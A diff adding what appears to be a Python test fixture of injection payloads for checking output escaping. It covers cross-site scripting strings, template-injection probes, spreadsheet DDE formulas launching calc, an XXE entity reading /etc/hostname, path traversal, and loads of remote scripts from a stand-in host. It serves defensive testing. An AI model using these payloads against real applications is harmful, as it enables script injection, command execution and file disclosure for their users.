@@ -1,0 +1,117 @@
+"""Strings that would do harm where a program forgets to escape them. Each marks what it smuggles: `pwned`.
+
+Written for this project, after the classes of the OWASP cheat sheets on scripting and formula injection.
+"""
+
+from __future__ import annotations
+
+_RUN = "window.__pwned=1"
+
+_ELEMENTS = [
+    f"<script data-pwned>{_RUN}</script>",
+    f"</script><script data-pwned>{_RUN}</script>",
+    f"<ScRiPt data-pwned>{_RUN}</sCrIpT>",
+    f"<script data-pwned src=//pwned.invalid/x.js></script>{_RUN}",
+    f"<script/data-pwned>{_RUN}</script>",
+    f"<<script data-pwned>{_RUN}//<</script>",
+    f"<img data-pwned src=x onerror={_RUN}>",
+    f"<img data-pwned src=x onerror='{_RUN}'",
+    f'"><img data-pwned src=x onerror="{_RUN}">',
+    f"'><img data-pwned src=x onerror='{_RUN}'>",
+    f"`><img data-pwned src=x onerror=`{_RUN}`>",
+    f"<svg data-pwned onload={_RUN}>",
+    f"<svg data-pwned><script>{_RUN}</script></svg>",
+    f"<svg data-pwned><animate onbegin={_RUN} attributeName=x dur=1s>",
+    f"<svg data-pwned><a xlink:href='javascript:{_RUN}'><text>x</text></a></svg>",
+    f"</svg><script data-pwned>{_RUN}</script>",
+    f"</text></svg><img data-pwned src=x onerror={_RUN}>",
+    f"<math data-pwned><mtext><img src=x onerror={_RUN}></math>",
+    f"<iframe data-pwned srcdoc='<script>parent.{_RUN}</script>'></iframe>",
+    f"<iframe data-pwned src='javascript:parent.{_RUN}'></iframe>",
+    f"<object data-pwned data='javascript:{_RUN}'></object>",
+    "<embed data-pwned src=//pwned.invalid/x.swf>",
+    f"<body data-pwned onload={_RUN}>",
+    f"<details data-pwned open ontoggle={_RUN}>",
+    f"<video data-pwned><source onerror={_RUN}></video>",
+    f"<audio data-pwned src=x onerror={_RUN}>",
+    f"<input data-pwned autofocus onfocus={_RUN}>",
+    f"<select data-pwned autofocus onfocus={_RUN}>",
+    f"<marquee data-pwned onstart={_RUN}>x</marquee>",
+    f"<form data-pwned action='javascript:{_RUN}'><button>x</button></form>",
+    f"<button data-pwned form=x formaction='javascript:{_RUN}'>x</button>",
+    f"<a data-pwned href='javascript:{_RUN}'>x</a>",
+    "<base data-pwned href=//pwned.invalid/>",
+    "<link data-pwned rel=stylesheet href=//pwned.invalid/x.css>",
+    "<meta data-pwned http-equiv=refresh content='0;url=//pwned.invalid/'>",
+    "<style data-pwned>*{background:url(//pwned.invalid/x)}</style>",
+    "</style><style data-pwned>@import '//pwned.invalid/x.css';</style>",
+    f"</title><script data-pwned>{_RUN}</script>",
+    f"</textarea><script data-pwned>{_RUN}</script>",
+    f"</noscript><script data-pwned>{_RUN}</script>",
+    f"</template><script data-pwned>{_RUN}</script>",
+    f"--><script data-pwned>{_RUN}</script><!--",
+    f"<!--><script data-pwned>{_RUN}</script>-->",
+    f"]]><script data-pwned>{_RUN}</script>",
+    f"<![CDATA[<script data-pwned>{_RUN}</script>]]>",
+    f"<?xml version='1.0'?><script data-pwned>{_RUN}</script>",
+    "<!DOCTYPE x [<!ENTITY pwned SYSTEM 'file:///etc/hostname'>]>&pwned;",
+    "<plaintext data-pwned>",
+    "<xmp data-pwned><p></xmp>",
+    f"<dialog data-pwned open oncancel={_RUN}>",
+    f"<p data-pwned style='animation:x' onanimationstart={_RUN}>",
+    f"<x-pwned data-pwned onclick={_RUN} tabindex=1 autofocus onfocus={_RUN}>",
+    "<img data-pwned src='//pwned.invalid/x.png'>",
+    f"<noscript><p title='</noscript><img data-pwned src=x onerror={_RUN}>'>",
+]
+_ATTRIBUTES = [
+    f'" onmouseover="{_RUN}" data-pwned="',
+    f"' onmouseover='{_RUN}' data-pwned='",
+    f'" autofocus onfocus={_RUN} data-pwned x="',
+    f"x onclick={_RUN} data-pwned",
+    f'" style="width:expression({_RUN})" data-pwned="',
+    f"&quot; onmouseover=&quot;{_RUN}&quot; data-pwned=&quot;",
+    f'\\" onmouseover=\\"{_RUN}\\" data-pwned=\\"',
+    "/ data-pwned ><",
+    "&#34;&#62;&#60;img data-pwned src=x&#62;",
+]
+_CODE = [
+    f"';{_RUN};//",
+    f'";{_RUN};//',
+    f"`${{{_RUN}}}`",
+    f"\\';{_RUN};//",
+    f'"}}];{_RUN};//',
+    f"*/{_RUN};/*",
+    f"</script><svg data-pwned/onload={_RUN}>",
+    "\\u003cscript data-pwned\\u003ewindow.__pwned=1\\u003c/script\\u003e",
+    "{{ 7*7 }}{% raw %}{{ config }}",
+    "${7*7}#{7*7}<%= 7*7 %>",
+    "__proto__",
+    "constructor",
+]
+_MARKDOWN = [
+    f"[x](javascript:{_RUN})",
+    f"![x](javascript:{_RUN})",
+    "![pwned](//pwned.invalid/x.png)",
+    f"<javascript:{_RUN}>",
+    f"[x]: javascript:{_RUN}",
+    f"`<img data-pwned src=x onerror={_RUN}>`",
+    "[x](data:text/html,<script data-pwned>1</script>){: onclick=x data-pwned }",
+    "# 标题 {: #pwned onclick=window.__pwned=1 data-pwned }",
+]
+_TABLES = [
+    '=HYPERLINK("//pwned.invalid/","x")',
+    "=cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "＝1+1",
+    '","pwned","',
+    "x\nEND:VEVENT\nEND:VCALENDAR\nATTACH:file:///etc/hostname",
+    "x;ATTACH=pwned:,\\n:END:VEVENT",
+    f"\n\n<img data-pwned src=x onerror={_RUN}>\n\n",
+    "../../../../../../etc/pwned",
+    "con",
+]
+
+PAYLOADS = (*_ELEMENTS, *_ATTRIBUTES, *_CODE, *_MARKDOWN, *_TABLES)
+"""All of them: none has a character that the loader refuses, so that each reaches the pages."""
